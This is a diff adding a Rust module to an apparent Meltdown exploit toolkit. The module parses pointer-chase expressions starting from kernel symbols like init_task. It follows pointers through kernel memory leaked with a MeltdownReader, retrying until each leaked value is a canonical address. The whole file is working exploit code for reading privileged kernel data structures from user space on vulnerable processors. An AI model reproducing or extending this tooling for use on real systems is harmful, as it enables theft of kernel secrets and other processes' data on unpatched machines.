@@ -0,0 +1,119 @@
+//! Following pointers through leaked memory, for structures no command
+//! knows about. A chase like `init_task -> +0x398 -> -0x398 : 64` starts at
+//! an address or symbol, and at each `->` leaks the pointer at the current
+//! address and adds the step's offset to it. The part after the `:` is how
+//! much to leak where the chase ends.
+//!
+//! Every leaked pointer has to be canonical, with the bits above 47 all
+//! copies of bit 47, before it is followed. A pointer that isn't can't be
+//! dereferenced by the CPU either, so it has certainly been misread.
+
+use std::io;
+
+use reader::MeltdownReader;
+use suppress::ExceptionSuppressor;
+use symbols::SymbolTarget;
+use tasks::read_word;
+
+// how many times a pointer is leaked again while a byte of it doesn't decode
+// or it isn't canonical
+const POINTER_RETRIES: usize = 4;
+
+/// Where a chase starts.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Base {
+    Address(usize),
+    Symbol(SymbolTarget),
+}
+
+/// A parsed chase.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Chase {
+    pub base: Base,
+    /// What is added to each pointer leaked, in order.
+    pub steps: Vec<isize>,
+    /// How much to leak at the end, if given.
+    pub len: Option<usize>,
+}
+
+// hex with a 0x prefix, decimal otherwise
+fn parse_number(s: &str) -> Option<usize> {
+    if s.starts_with("0x") {
+        usize::from_str_radix(&s[2..], 16).ok()
+    } else {
+        s.parse().ok()
+    }
+}
+
+fn parse_step(s: &str) -> Result<isize, String> {
+    let invalid = || format!("invalid step `{}`, expected +<offset> or -<offset>", s);
+    let offset = match parse_number(s.get(1..).unwrap_or("").trim()) {
+        Some(offset) => offset as isize,
+        None => return Err(invalid()),
+    };
+    match s.chars().next() {
+        Some('+') => Ok(offset),
+        Some('-') => Ok(-offset),
+        _ => Err(invalid()),
+    }
+}
+
+impl Chase {
+    /// Parses `<base> [-> <step>]... [: <len>]`, where the base is an
+    /// address or a symbol with an optional offset, and each step is a
+    /// signed offset.
+    pub fn parse(s: &str) -> Result<Chase, String> {
+        let mut parts = s.rsplitn(2, ':');
+        let (path, len) = match (parts.next(), parts.next()) {
+            (Some(len), Some(path)) => {
+                let len = parse_number(len.trim())
+                    .ok_or_else(|| format!("invalid length `{}`", len.trim()))?;
+                (path, Some(len))
+            }
+            (Some(path), None) => (path, None),
+            _ => unreachable!(),
+        };
+        let mut hops = path.split("->").map(str::trim);
+        let base = hops.next().unwrap_or("");
+        let base = match parse_number(base) {
+            Some(addr) => Base::Address(addr),
+            None => Base::Symbol(SymbolTarget::parse(base)
+                .ok_or_else(|| format!("invalid base `{}`", base))?),
+        };
+        let steps = hops.map(parse_step).collect::<Result<_, _>>()?;
+        Ok(Chase { base, steps, len })
+    }
+}
+
+/// Whether `addr` is a canonical 48 bit address.
+pub fn canonical(addr: usize) -> bool {
+    let top = (addr as i64) >> 47;
+    top == 0 || top == -1
+}
+
+/// Follows `steps` from `start`, and returns every address the chase
+/// reaches, starting with `start` and ending where it ends. Fails at the
+/// first pointer that doesn't leak as a canonical address.
+pub fn follow<S: ExceptionSuppressor>(
+    reader: &MeltdownReader<S>,
+    start: usize,
+    steps: &[isize],
+) -> io::Result<Vec<usize>> {
+    let mut addrs = vec![start];
+    let mut addr = start;
+    for &step in steps {
+        let pointer = (0..POINTER_RETRIES)
+            .filter_map(|_| read_word(reader, addr))
+            .map(|word| word as usize)
+            .find(|&pointer| pointer != 0 && canonical(pointer))
+            .ok_or_else(|| {
+                io::Error::new(
+                    io::ErrorKind::InvalidData,
+                    format!("no canonical pointer leaked from 0x{:016x}", addr),
+                )
+            })?;
+        addr = pointer.wrapping_add(step as usize);
+        addrs.push(addr);
+    }
+    Ok(addrs)
+}